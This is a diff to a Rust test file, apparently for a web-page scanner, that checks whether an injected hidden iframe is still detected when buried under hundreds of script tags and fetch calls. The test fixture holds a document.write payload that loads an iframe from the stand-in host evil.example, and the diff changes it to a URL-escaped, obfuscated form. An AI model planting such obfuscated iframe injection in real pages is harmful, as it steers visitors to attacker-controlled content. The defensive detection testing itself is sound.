@@ -28,11 +28,12 @@ fn disagreeing_charsets_are_information() {
 
 #[test]
 fn what_hides_behind_a_flood_is_never_quiet() {
-    let hidden = "document.write('<iframe src=//evil.example/></iframe>')";
+    let hidden = "document.write(unescape('%3Ciframe src=//evil.example/%3E%3C/iframe%3E'))";
     let scripts: String = (0..600).map(|n| format!("<script>var a{n}=document.createElement('b')</script>")).collect();
     let actions: String = (0..200).map(|n| format!("fetch('/a/{n}');")).collect();
     for markup in [format!("{scripts}<script>{hidden}</script>"), format!("<script>{actions}{hidden}</script>")] {
-        assert_eq!(worst(&inserted("hidden-frame", "</main>", &markup), RULE), Some((Medium, Certain)));
+        let found = inserted("hidden-frame", "</main>", &markup);
+        assert_eq!(worst(&found, RULE), Some((Medium, Certain)), "{}: {found:#?}", markup.len());
         let page = format!("<!doctype html><title>x</title><body>{markup}");
         assert_eq!(worst(&scan_alone(&page, Form::Page).0, RULE), Some((Medium, Certain)));
     }
